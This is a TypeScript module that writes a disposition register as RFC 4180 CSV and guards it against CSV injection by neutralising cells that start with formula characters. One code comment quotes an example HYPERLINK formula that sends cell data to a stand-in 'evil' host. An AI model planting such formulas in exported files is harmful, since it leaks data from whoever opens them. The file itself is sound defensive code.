import { assertRegister } from './register-input.js';
import { REGISTER_COLUMNS } from './register-columns.js';
import type { RegisterHeading, RegisterRow } from './register-row.js';

// A spreadsheet takes a cell that starts with one of these as a formula ("CSV injection"): a
// comment reading `=HYPERLINK("http://evil/?"&A1, "x")` would run when the secretariat opens
// the register in Excel. A leading apostrophe makes the spreadsheet show the text as text.
// Tab and carriage return are on OWASP's list too: some spreadsheets strip them and then read on.
const FORMULA_START = /^[=+\-@\t\r]/;

// Excel reads a CSV without a byte order mark as the local code page, turning 'Müller' into
// 'MÃ¼ller'; with it, as UTF-8. Other readers (Python's csv with utf-8-sig, LibreOffice) accept it.
const BYTE_ORDER_MARK = '\uFEFF';

/** A cell made inert and quoted when RFC 4180 requires it (comma, quote, CR or LF inside). */
export function csvCell(value: string): string {
  const inert = FORMULA_START.test(value) ? `'${value}` : value;
  return /[",\r\n]/.test(inert) ? `"${inert.replaceAll('"', '""')}"` : inert;
}

function csvLine(cells: readonly string[]): string {
  return `${cells.map(csvCell).join(',')}\r\n`;
}

/**
 * The disposition register as RFC 4180 CSV: a header row, then one row per item with the
 * values the JSON answer has (`open`, `2019-09-26T10:15:00Z`), CRLF line ends, a UTF-8 byte
 * order mark first. The heading is not written into the file: a line above the header row
 * would break every program that reads the CSV as one table; `registerFileName` names the file.
 * Throws a RegisterInputError for rows it cannot print truthfully.
 */
export function registerCsv(rows: readonly RegisterRow[], heading: RegisterHeading): string {
  assertRegister(rows, heading, 'registerCsv');
  const header = csvLine(REGISTER_COLUMNS.map((column) => column.header));
  const body = rows.map((row) => csvLine(REGISTER_COLUMNS.map((column) => column.raw(row))));
  return `${BYTE_ORDER_MARK}${header}${body.join('')}`;
}
